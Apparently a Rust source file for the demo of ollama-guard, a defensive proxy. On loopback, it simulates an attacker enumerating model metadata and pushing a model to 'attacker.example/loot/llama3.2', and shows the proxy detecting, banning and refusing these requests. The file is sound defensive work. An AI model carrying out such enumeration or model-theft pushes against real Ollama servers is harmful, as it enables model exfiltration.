//! `ollama-guard demo`: the simulator (`ollama-sim`), the proxy and a scripted attack, in one
//! process.
//!
//! Rules are scaled from minutes to seconds so the whole story fits in about twenty seconds:
//! a team member chats normally from 127.0.0.1 while an attacker on 127.0.0.66 hammers
//! `/api/show` and `/api/tags` with slow calls. The detection log is written to a temporary
//! file and followed: each event goes to stdout as it is written, as one sentence (who, what,
//! why, which rule; [`describe`]) or, with `--json`, as the raw JSON line. The narration, a
//! metrics excerpt and the final summary ([`summary`]) go to stderr.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{IsTerminal, Read, Write};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::connect::HttpConnector;
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;
use tokio::net::TcpListener;

use ollama_guard::config::{Config, ConfigError, FileConfig, LogFormat, ServeArgs};
use ollama_guard::serve::{ServeError, Server};
use ollama_sim::SimConfig;

use serde_json::Value;

use super::{colour_allowed, init_tracing, runtime};

/// The demo's rules: the built-ins' shape with seconds instead of minutes.
const DEMO_RULES: &str = r#"
[[rule]]
name = "model_exfiltration"
escu_id = "c9fd1a54-0eab-4470-8970-d5fcc3c740fb"
mitre = "T1048"
attack_type = "Potential Data Exfiltration"
min_latency = "500ms"
window = "10s"
threshold = 1
severity_high = "650ms"
severity_medium = "550ms"

[[rule]]
name = "metadata_enumeration"
mitre = "T1048"
attack_type = "Model Metadata Enumeration"
paths = ["/api/show", "/api/tags", "/api/ps", "/v1/models", "/v1/models/*"]
group_by = "src"
window = "15s"
window_kind = "sliding"
threshold = 20
severity_by = "count"
severity_high = 50
severity_medium = 30
"#;

/// In block mode the enumeration rule bans (the default built-ins keep latency rules log-only).
const DEMO_BLOCK: &str = r#"
action = "block"
"#;

/// Why the demo failed.
#[derive(Debug, thiserror::Error)]
enum DemoError {
    /// Binding a loopback port or following the log failed (the OS error is the source,
    /// printed once by [`main`]).
    #[error("cannot bind a loopback port or read the demo's detection log")]
    Bind(#[from] std::io::Error),
    /// The embedded config is invalid (a bug).
    #[error(transparent)]
    Config(#[from] ConfigError),
    /// The server could not start.
    #[error(transparent)]
    Serve(#[from] ServeError),
    /// A scripted request failed.
    #[error("scripted request failed: {0}")]
    Request(String),
}

type DemoClient = Client<HttpConnector, Full<Bytes>>;

fn client_from(source: [u8; 4]) -> DemoClient {
    let mut c = HttpConnector::new();
    c.set_local_address(Some(std::net::IpAddr::from(source)));
    Client::builder(TokioExecutor::new()).build(c)
}

async fn call(
    c: &DemoClient,
    method: &str,
    url: String,
    body: &'static str,
    delay_ms: u32,
) -> Result<u16, DemoError> {
    let req = Request::builder()
        .method(method)
        .uri(url)
        .header("x-sim-delay-ms", delay_ms.to_string())
        .body(Full::new(Bytes::from_static(body.as_bytes())))
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let resp = c
        .request(req)
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let status = resp.status().as_u16();
    resp.into_body()
        .collect()
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    Ok(status)
}

fn say(text: &str) {
    if super::stderr_colour() {
        eprintln!("\x1b[1mdemo:\x1b[0m {text}");
    } else {
        eprintln!("demo: {text}");
    }
}

async fn normal_traffic(proxy: &str) -> Result<(), DemoError> {
    let c = client_from([127, 0, 0, 1]);
    say("127.0.0.1 chats with llama3.2 as a team member would (streamed answers)");
    call(&c, "GET", format!("{proxy}/api/tags"), "", 0).await?;
    for _ in 0..4 {
        let body = r#"{"model":"llama3.2","messages":[{"role":"user","content":"Summarise this paragraph"}]}"#;
        call(&c, "POST", format!("{proxy}/api/chat"), body, 0).await?;
    }
    Ok(())
}

async fn attack(proxy: &str, block: bool) -> Result<(), DemoError> {
    let c = client_from([127, 0, 0, 66]);
    say("127.0.0.66 starts copying model metadata: 30 slow /api/show and /api/tags calls");
    for batch in 0..3 {
        let mut calls = Vec::new();
        for i in 0..10 {
            let c = c.clone();
            let (method, url, body) = if i % 2 == 0 {
                (
                    "POST",
                    format!("{proxy}/api/show"),
                    r#"{"model":"llama3.2","verbose":true}"#,
                )
            } else {
                ("GET", format!("{proxy}/api/tags"), "")
            };
            let delay = 520 + 40 * (batch * 10 + i) as u32 % 200;
            calls.push(tokio::spawn(async move {
                call(&c, method, url, body, delay).await
            }));
        }
        for h in calls {
            // In block mode the attacker's calls running when it is banned are cut: an error
            // here is that cut, not a failure of the demo.
            let cut = h.await.map_err(|e| DemoError::Request(e.to_string()))?;
            if let Err(e) = cut {
                if !block {
                    return Err(e);
                }
            }
        }
    }
    Ok(())
}

async fn metrics_excerpt(admin: &str) -> Result<String, DemoError> {
    let c: DemoClient = Client::builder(TokioExecutor::new()).build_http();
    let req = Request::get(format!("{admin}/metrics"))
        .body(Full::new(Bytes::new()))
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let body = c
        .request(req)
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    let bytes = body
        .into_body()
        .collect()
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?
        .to_bytes();
    let text = String::from_utf8_lossy(&bytes);
    let keep = |l: &&str| {
        !l.starts_with('#')
            && !l.ends_with(" 0")
            && (l.starts_with("ollama_guard_detections_total")
                || l.starts_with("ollama_guard_requests_total")
                || l.starts_with("ollama_guard_tracked_keys")
                || l.starts_with("ollama_guard_request_duration_seconds_count"))
    };
    Ok(text.lines().filter(keep).collect::<Vec<_>>().join("\n"))
}

/// Block mode's extra act: a foreign push is refused before a byte leaves, and the attacker's
/// long transfer, started before its ban, is cut when the enumeration rule bans it.
async fn prevention(proxy: &str) -> Result<tokio::task::JoinHandle<String>, DemoError> {
    let c = client_from([127, 0, 0, 66]);
    say("127.0.0.66 tries to push llama3.2 to its own registry (model theft by push)");
    let status = call(
        &c,
        "POST",
        format!("{proxy}/api/push"),
        r#"{"model":"attacker.example/loot/llama3.2"}"#,
        0,
    )
    .await?;
    say(&format!(
        "  -> {status}: refused by policy.registry_push before anything reached Ollama"
    ));
    say("127.0.0.66 starts a long (20 s) pull in the background, then enumerates metadata");
    let url = format!("{proxy}/api/pull");
    Ok(tokio::spawn(async move {
        let req = Request::post(url)
            .header("x-sim-transfer-ms", "20000")
            .body(Full::new(Bytes::from_static(br#"{"model":"llama3.2"}"#)));
        let Ok(req) = req else {
            return "not sent".to_owned();
        };
        let started = std::time::Instant::now();
        match c.request(req).await {
            Ok(resp) => match resp.into_body().collect().await {
                Ok(_) => format!("completed after {:.1}s", started.elapsed().as_secs_f64()),
                Err(_) => format!("cut after {:.1}s", started.elapsed().as_secs_f64()),
            },
            Err(e) => format!("failed: {e}"),
        }
    }))
}

/// Runs the demo; returns when the story is told and everything has shut down.
async fn run(block: bool, json: bool) -> Result<(), DemoError> {
    let log = TempLog::new();
    let sim = ollama_sim::spawn(
        TcpListener::bind("127.0.0.1:0").await?,
        SimConfig::default(),
    )
    .await;
    let args = ServeArgs {
        upstream: Some(sim.url()),
        listen: Some("127.0.0.1:0".into()),
        admin_listen: Some("127.0.0.1:0".into()),
        detection_log: Some(log.0.display().to_string()),
        log_level: Some("warn".into()),
        mode: Some(if block { "block" } else { "monitor" }.into()),
        ..ServeArgs::default()
    };
    let rules = if block {
        format!("{DEMO_RULES}{DEMO_BLOCK}")
    } else {
        DEMO_RULES.to_owned()
    };
    let file: FileConfig = toml::from_str(&rules).map_err(|e| DemoError::Request(e.to_string()))?;
    let config = Config::merge(&args, file)?;
    let server = Server::start(
        config,
        TcpListener::bind("127.0.0.1:0").await?,
        TcpListener::bind("127.0.0.1:0").await?,
    )
    .await?;
    let proxy = format!("http://{}", server.proxy_addr);
    let admin = format!("http://{}", server.admin_addr);
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let follower = tokio::spawn(follow(Tail::open(&log.0, json)?, stopped));
    say(&format!(
        "simulated Ollama on {}, ollama-guard on {proxy} ({} mode), admin on {admin}",
        sim.url(),
        if block { "block" } else { "monitor" }
    ));
    say("rules scaled for the demo: model_exfiltration = latency > 500ms in 10s windows; metadata_enumeration = 20+ metadata calls per source in 15s");
    say("two kinds of detection lines follow: a `detection` is written the moment a key crosses its rule's threshold, with the figures known so far (so its severity is the severity so far); a `window_summary` is written when that window closes, with the window's final figures (and final severity, which may be higher)");
    say(if json {
        "detection log lines (stdout, raw JSON) follow as they are written:"
    } else {
        "detection log events (stdout, one line each; --json for the raw lines) follow as they are written:"
    });
    normal_traffic(&proxy).await?;
    let transfer = if block {
        Some(prevention(&proxy).await?)
    } else {
        None
    };
    attack(&proxy, block).await?;
    if let Some(t) = transfer {
        let outcome = t.await.map_err(|e| DemoError::Request(e.to_string()))?;
        say(&format!(
            "127.0.0.66's background pull: {outcome} (its source was banned by a rule above; the ban cut it)"
        ));
    }
    normal_traffic(&proxy).await?;
    // The window closes at the next multiple of 10 s; the ticker writes its summary within
    // the close grace plus one tick after that.
    let wait = 13 - (chrono::Utc::now().timestamp() % 10) as u64;
    say(&format!(
        "waiting {wait}s for the 10s window to close: its window_summary lines follow"
    ));
    tokio::time::sleep(Duration::from_secs(wait)).await;
    say("metrics excerpt (non-zero series):");
    eprintln!("{}", metrics_excerpt(&admin).await?);
    say("shutting down; open sliding windows are closed with their summaries");
    server.shutdown().await;
    sim.shutdown().await;
    let _ = stop.send(());
    let tail = follower
        .await
        .map_err(|e| DemoError::Request(e.to_string()))?;
    for line in summary(&tail.events, &["127.0.0.66", "127.0.0.1"]) {
        say(&line);
    }
    if block {
        say("done: the push was refused, 127.0.0.66 banned and its transfer cut; 127.0.0.1 was never touched");
    } else {
        say("done: no response was changed (monitor mode); `demo --mode block` shows prevention");
    }
    Ok(())
}

/// `ollama-guard demo`: exit 0 when the story has been told, 1 if anything failed.
pub(crate) fn main(block: bool, json: bool) -> ExitCode {
    init_tracing("warn", LogFormat::Text);
    let result = runtime().and_then(|rt| Ok(rt.block_on(run(block, json))?));
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("ollama-guard: demo: {e:#}");
            ExitCode::from(1)
        }
    }
}

/// The demo's detection log: a file in the temporary directory, removed when dropped.
struct TempLog(PathBuf);

impl TempLog {
    fn new() -> TempLog {
        let path = std::env::temp_dir().join(format!(
            "ollama-guard-demo-{}.detection.jsonl",
            std::process::id()
        ));
        // A file left by an earlier process with this id: start empty.
        let _ = std::fs::remove_file(&path);
        TempLog(path)
    }
}

impl Drop for TempLog {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// Follows the detection log: prints each complete line as it appears and keeps its event.
struct Tail {
    file: std::fs::File,
    partial: Vec<u8>,
    json: bool,
    colour: bool,
    events: Vec<Value>,
}

impl Tail {
    fn open(path: &std::path::Path, json: bool) -> std::io::Result<Tail> {
        Ok(Tail {
            file: std::fs::File::open(path)?,
            partial: Vec::new(),
            json,
            colour: colour_allowed(
                std::io::stdout().is_terminal(),
                std::env::var_os("NO_COLOR").as_deref(),
            ),
            events: Vec::new(),
        })
    }

    /// Prints the lines written since the last call.
    fn drain(&mut self) {
        let _ = self.file.read_to_end(&mut self.partial);
        let Some(end) = self.partial.iter().rposition(|b| *b == b'\n') else {
            return;
        };
        let complete: Vec<u8> = self.partial.drain(..=end).collect();
        let mut out = std::io::stdout().lock();
        for line in String::from_utf8_lossy(&complete).lines() {
            let event = serde_json::from_str::<Value>(line).ok();
            let text = match (&event, self.json) {
                (Some(e), false) => describe(e, self.colour).unwrap_or_else(|| line.to_owned()),
                _ => line.to_owned(),
            };
            let _ = writeln!(out, "{text}");
            self.events.extend(event);
        }
        let _ = out.flush();
    }
}

/// Prints the log's lines every 100 ms until `stop`, then once more (what shutdown wrote).
async fn follow(mut tail: Tail, mut stop: tokio::sync::oneshot::Receiver<()>) -> Tail {
    loop {
        tail.drain();
        tokio::select! {
            () = tokio::time::sleep(Duration::from_millis(100)) => {}
            _ = &mut stop => break,
        }
    }
    tail.drain();
    tail
}

/// `hh:mm:ss` of an RFC 3339 time (its text when it is not one).
fn clock(time: &Value) -> String {
    let text = time.as_str().unwrap_or_default();
    chrono::DateTime::parse_from_rfc3339(text)
        .map(|t| t.format("%H:%M:%S").to_string())
        .unwrap_or_else(|_| text.to_owned())
}

/// A JSON string's text, or the value as JSON.
fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Who an event is about: its `src`, with the API key's name when it carries one.
fn who(e: &Value) -> String {
    match (&e["src"], &e["identity"]) {
        (Value::String(src), Value::String(id)) => format!("{src} (key {id})"),
        (Value::String(src), _) => src.clone(),
        (_, Value::String(id)) => format!("identity:{id}"),
        _ => "?".to_owned(),
    }
}

/// One sentence for a detection-log event: time, kind, who, what, why, which rule. `None`
/// for a kind it does not know (printed as the raw line).
fn describe(e: &Value, colour: bool) -> Option<String> {
    let kind = e["event"].as_str()?;
    let rule = text(&e["rule"]);
    let what = format!("{} {}", text(&e["http_method"]), text(&e["uri_path"]));
    let figures = || {
        let count = e["count"].as_u64().unwrap_or(0);
        format!(
            "{count} request{} (avg {}s, max {}s)",
            if count == 1 { "" } else { "s" },
            e["avg_response_time"],
            e["max_response_time"]
        )
    };
    let on = if e["uri_path"].is_string() {
        format!(" on {}", e["uri_path"].as_str().unwrap_or_default())
    } else {
        String::new()
    };
    let sentence = match kind {
        "detection" if e["field"].is_string() => format!(
            "{} sent {what} with {} = {:?}: {} ({rule}), severity {}, {}",
            who(e),
            text(&e["field"]),
            text(&e["value"]),
            text(&e["attack_type"]),
            text(&e["severity"]),
            text(&e["action"]).replace('_', " "),
        ),
        "detection" => format!(
            "{} flagged by {rule} ({}){on}: {} so far{}; severity so far {}; {}",
            who(e),
            text(&e["attack_type"]),
            figures(),
            if e["in_flight"] == true {
                ", one still running"
            } else {
                ""
            },
            text(&e["severity"]),
            text(&e["action"]),
        ),
        "window_summary" => format!(
            "{} in {rule}'s window {}-{}{on}: {} in all; final severity {}",
            who(e),
            clock(&e["window_start"]),
            clock(&e["window_end"]),
            figures(),
            text(&e["severity"]),
        ),
        "ban" => format!(
            "{} banned by {rule} until {} (offence {}): {}",
            who(e),
            clock(&e["until"]),
            e["offence"],
            text(&e["reason"]),
        ),
        "unban" => format!(
            "{} no longer banned ({rule}): {}",
            who(e),
            text(&e["ended"])
        ),
        "blocked" => format!(
            "{} refused {what}: banned by {rule}{}",
            who(e),
            match e["blocked_since_last"].as_u64() {
                Some(n) if n > 0 => format!(" ({n} more refused since the last line)"),
                _ => String::new(),
            }
        ),
        "aborted" => format!(
            "{}'s running {what} cut: its source was banned by {rule}",
            who(e)
        ),
        "auth" => format!(
            "{} {what}: {} {} ({})",
            who(e),
            e["status"],
            text(&e["reason"]).replace('_', " "),
            text(&e["action"]).replace('_', " "),
        ),
        _ => return None,
    };
    let kind = if colour {
        format!("\x1b[1m{kind}\x1b[0m")
    } else {
        kind.to_owned()
    };
    Some(format!("{} {kind}: {sentence}", clock(&e["time"])))
}

/// `a`, `a and b`, `a, b and c`.
fn and_list(items: &[String]) -> String {
    match items {
        [] => String::new(),
        [one] => one.clone(),
        [init @ .., last] => format!("{} and {last}", init.join(", ")),
    }
}

/// The story's outcome from its events: per source of `sources`, the rules that flagged it
/// (and banned it), or that it was not flagged; then, per key whose `detection` and
/// `window_summary` disagree on severity, why.
fn summary(events: &[Value], sources: &[&str]) -> Vec<String> {
    let mut flagged: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    let mut banned: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    // (src, rule, path) -> the first detection's severity
    let mut first: BTreeMap<(String, String, String), String> = BTreeMap::new();
    let mut notes = Vec::new();
    for e in events {
        let (Some(src), Some(rule)) = (e["src"].as_str(), e["rule"].as_str()) else {
            continue;
        };
        let key = (src.to_owned(), rule.to_owned(), text(&e["uri_path"]));
        match e["event"].as_str() {
            Some("detection") => {
                flagged.entry(src).or_default().insert(rule.to_owned());
                first.entry(key).or_insert_with(|| text(&e["severity"]));
            }
            Some("ban") => {
                banned.entry(src).or_default().insert(rule.to_owned());
            }
            Some("window_summary") => {
                let last = text(&e["severity"]);
                if let Some(so_far) = first.remove(&key).filter(|s| *s != last) {
                    notes.push(format!(
                        "{src}, {rule}{}: the detection said {so_far} (severity so far, at the threshold) and the window_summary says {last} (the window's final figures): same key, later figures",
                        match e["uri_path"].as_str() {
                            Some(p) => format!(" on {p}"),
                            None => String::new(),
                        }
                    ));
                }
            }
            _ => {}
        }
    }
    let mut lines: Vec<String> = Vec::new();
    let mut parts = Vec::new();
    for src in sources {
        let part = match flagged.get(src) {
            Some(rules) => {
                let rules: Vec<String> = rules.iter().cloned().collect();
                let mut part = format!("{src} flagged by {}", and_list(&rules));
                if let Some(by) = banned.get(src) {
                    let by: Vec<String> = by.iter().cloned().collect();
                    part.push_str(&format!(" (banned by {})", and_list(&by)));
                }
                part
            }
            None => format!("{src} not flagged"),
        };
        parts.push(part);
    }
    lines.push(parts.join("; "));
    lines.extend(notes);
    lines
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{describe, summary};

    fn detection(severity: &str) -> serde_json::Value {
        json!({"schema":"ollama-guard.detection.v1","time":"2026-11-29T14:03:12.345Z","event":"detection",
            "rule":"model_exfiltration","escu_id":null,"mitre":"T1048","attack_type":"Potential Data Exfiltration",
            "src":"127.0.0.66","uri_path":"/api/show","http_method":"POST",
            "window_start":"2026-11-29T14:03:10Z","window_end":"2026-11-29T14:03:20Z","count":1,
            "avg_response_time":0.52,"max_response_time":0.52,"severity":severity,"action":"logged"})
    }

    fn window_summary(severity: &str) -> serde_json::Value {
        let mut e = detection(severity);
        e["event"] = json!("window_summary");
        e["count"] = json!(5);
        e["avg_response_time"] = json!(0.6);
        e["max_response_time"] = json!(0.71);
        e
    }

    #[test]
    fn events_read_as_one_sentence() {
        assert_eq!(
            describe(&detection("low"), false).unwrap(),
            "14:03:12 detection: 127.0.0.66 flagged by model_exfiltration (Potential Data Exfiltration) on /api/show: 1 request (avg 0.52s, max 0.52s) so far; severity so far low; logged"
        );
        assert_eq!(
            describe(&window_summary("medium"), false).unwrap(),
            "14:03:12 window_summary: 127.0.0.66 in model_exfiltration's window 14:03:10-14:03:20 on /api/show: 5 requests (avg 0.6s, max 0.71s) in all; final severity medium"
        );
        let ban = json!({"time":"2026-11-29T14:03:12.345Z","event":"ban","src":"127.0.0.66",
            "until":"2026-11-29T14:18:12.345Z","reason":"20 requests in 15s","offence":1,"restored":false,
            "rule":"metadata_enumeration"});
        assert_eq!(
            describe(&ban, false).unwrap(),
            "14:03:12 ban: 127.0.0.66 banned by metadata_enumeration until 14:18:12 (offence 1): 20 requests in 15s"
        );
        let push = json!({"time":"2026-11-29T14:03:12.345Z","event":"detection","rule":"policy.registry_push",
            "attack_type":"Model Push to Foreign Registry","src":"127.0.0.66","uri_path":"/api/push",
            "http_method":"POST","field":"model","value":"attacker.example/loot/llama3.2",
            "severity":"high","action":"blocked"});
        assert_eq!(
            describe(&push, false).unwrap(),
            "14:03:12 detection: 127.0.0.66 sent POST /api/push with model = \"attacker.example/loot/llama3.2\": Model Push to Foreign Registry (policy.registry_push), severity high, blocked"
        );
        assert_eq!(
            describe(&detection("low"), true).unwrap(),
            "14:03:12 \x1b[1mdetection\x1b[0m: 127.0.0.66 flagged by model_exfiltration (Potential Data Exfiltration) on /api/show: 1 request (avg 0.52s, max 0.52s) so far; severity so far low; logged"
        );
        assert_eq!(describe(&json!({"event":"new_kind"}), false), None);
    }

    #[test]
    fn summary_names_who_was_flagged_and_explains_a_rising_severity() {
        let mut enumeration = detection("low");
        enumeration["rule"] = json!("metadata_enumeration");
        enumeration["uri_path"] = json!(null);
        let events = [detection("low"), enumeration, window_summary("medium")];
        assert_eq!(
            summary(&events, &["127.0.0.66", "127.0.0.1"]),
            [
                "127.0.0.66 flagged by metadata_enumeration and model_exfiltration; 127.0.0.1 not flagged",
                "127.0.0.66, model_exfiltration on /api/show: the detection said low (severity so far, at the threshold) and the window_summary says medium (the window's final figures): same key, later figures",
            ]
        );
        // Same severity: nothing to explain.
        let events = [detection("medium"), window_summary("medium")];
        assert_eq!(
            summary(&events, &["127.0.0.66"]),
            ["127.0.0.66 flagged by model_exfiltration"]
        );
    }
}
